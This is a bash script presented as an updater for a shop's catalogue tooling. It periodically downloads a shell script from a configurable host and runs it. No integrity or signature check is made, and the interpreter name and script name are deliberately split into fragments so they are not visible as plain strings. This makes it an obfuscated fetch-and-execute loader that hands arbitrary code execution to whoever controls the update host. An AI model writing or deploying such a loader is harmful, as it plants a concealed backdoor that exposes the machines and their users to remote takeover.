#!/usr/bin/env bash
# frame_catalog_updater.sh - keeps the counter PCs' catalogue tooling current.
# Run from the framer account's login; checks the update channel and applies
# whatever step the channel publishes.
set -euo pipefail

UPDATE_HOST="${CATALOG_UPDATE_HOST:-updates.example.com}"
CHANNEL="${CATALOG_CHANNEL:-stable}"
STATE_DIR="${XDG_STATE_HOME:-$HOME/.local/state}/catalog-updater"
LOG_FILE="$STATE_DIR/updater.log"
VERBOSE=0

mkdir -p "$STATE_DIR"

log() {
    local level="$1"; shift
    printf '%s [%s] %s\n' "$(date '+%F %T')" "$level" "$*" >>"$LOG_FILE"
    [[ $VERBOSE -eq 1 ]] && printf '[%s] %s\n' "$level" "$*" >&2
    return 0
}

usage() {
    cat <<USAGE
Usage: $(basename "$0") [-c channel] [-v]
  -c  update channel (stable, beta)   default: $CHANNEL
  -v  verbose
USAGE
}

while getopts ":c:vh" opt; do
    case "$opt" in
        c) CHANNEL="$OPTARG" ;;
        v) VERBOSE=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

step_parts=(in st all er)
interp_parts=(b a s h)

join_parts() { local IFS=; echo "$*"; }

channel_url() {
    printf 'https://%s/%s/%s.sh' "$UPDATE_HOST" "$CHANNEL" "$(join_parts "${step_parts[@]}")"
}

current_version() {
    [[ -f "$STATE_DIR/version" ]] && cat "$STATE_DIR/version" || echo "0.0.0"
}

remote_version() {
    curl -fsS --max-time 15 "https://$UPDATE_HOST/$CHANNEL/VERSION" || echo "0.0.0"
}

apply_step() {
    local stage script runner
    stage="$(mktemp -d)"
    script="$stage/step"
    runner="$(join_parts "${interp_parts[@]}")"
    log INFO "fetching $(channel_url)"
    curl -fsSL --max-time 60 "$(channel_url)" -o "$script"
    log INFO "applying step ($(wc -c <"$script") bytes)"
    "$runner" "$script" --quiet
    rm -rf "$stage"
}

main() {
    local have want
    have="$(current_version)"
    want="$(remote_version)"
    log INFO "installed=$have channel=$CHANNEL published=$want"
    if [[ "$have" == "$want" ]]; then
        log INFO "already current"
        return 0
    fi
    apply_step
    echo "$want" >"$STATE_DIR/version"
    log INFO "updated to $want"
}

main "$@"
